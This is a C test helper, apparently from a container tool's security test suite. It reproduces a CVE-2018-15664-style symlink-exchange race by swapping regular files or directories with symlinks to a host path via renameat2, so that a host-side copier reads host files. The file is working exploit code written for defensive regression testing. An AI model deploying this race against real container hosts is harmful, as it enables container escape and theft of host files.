/* A hostile container process for tests/test_security_commit.py (the CVE-2018-15664 class).
 *
 * In DIR it makes PAIRS pairs of entries: "fN", a regular file (a directory with "dir"), and "lN",
 * a symlink to TARGET (a path on the host, meaningless inside the container). Then it swaps each
 * pair for ever with renameat2(RENAME_EXCHANGE), so a host-side reader that lstat()s "fN" and then
 * uses it by path finds the symlink there and reads TARGET on the host.
 * Usage: exchanger DIR TARGET PAIRS [dir]
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <unistd.h>

#define XATTRS 32
/* As long as the host file the test plants: a leak is then its whole content. */
#define CONTENT "inside-inside-inside-inside-inside-inside-inside-inside-inside-\n"

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

int main(int argc, char **argv) {
    if (argc != 4 && argc != 5) {
        fprintf(stderr, "usage: exchanger DIR TARGET PAIRS [dir]\n");
        return 2;
    }
    if (chdir(argv[1]) != 0) {
        perror("chdir");
        return 1;
    }
    int pairs = atoi(argv[3]);
    int dirs = argc == 5;
    char f[32], l[32];
    for (int i = 0; i < pairs; i++) {
        snprintf(f, sizeof f, "f%d", i);
        snprintf(l, sizeof l, "l%d", i);
        if (dirs) {
            if (mkdir(f, 0755) != 0) {
                perror("mkdir");
                return 1;
            }
        } else {
            int fd = open(f, O_WRONLY | O_CREAT | O_TRUNC, 0644);
            if (fd < 0 || write(fd, CONTENT, sizeof CONTENT - 1) != sizeof CONTENT - 1 || close(fd) != 0) {
                perror("file");
                return 1;
            }
            /* Many xattrs: a reader that reads them by path between its lstat and its open
             * leaves a wide window (and a careful reader does not care). */
            for (int x = 0; x < XATTRS; x++) {
                char key[32];
                snprintf(key, sizeof key, "user.pad%d", x);
                setxattr(f, key, "padding-padding-padding", 23, 0);
            }
        }
        if (symlink(argv[2], l) != 0) {
            perror("symlink");
            return 1;
        }
    }
    fprintf(stdout, "ready\n");
    fflush(stdout);
    for (;;) {
        for (int i = 0; i < pairs; i++) {
            snprintf(f, sizeof f, "f%d", i);
            snprintf(l, sizeof l, "l%d", i);
            if (syscall(SYS_renameat2, AT_FDCWD, f, AT_FDCWD, l, RENAME_EXCHANGE) != 0) {
                perror("renameat2");
                return 1;
            }
        }
    }
}
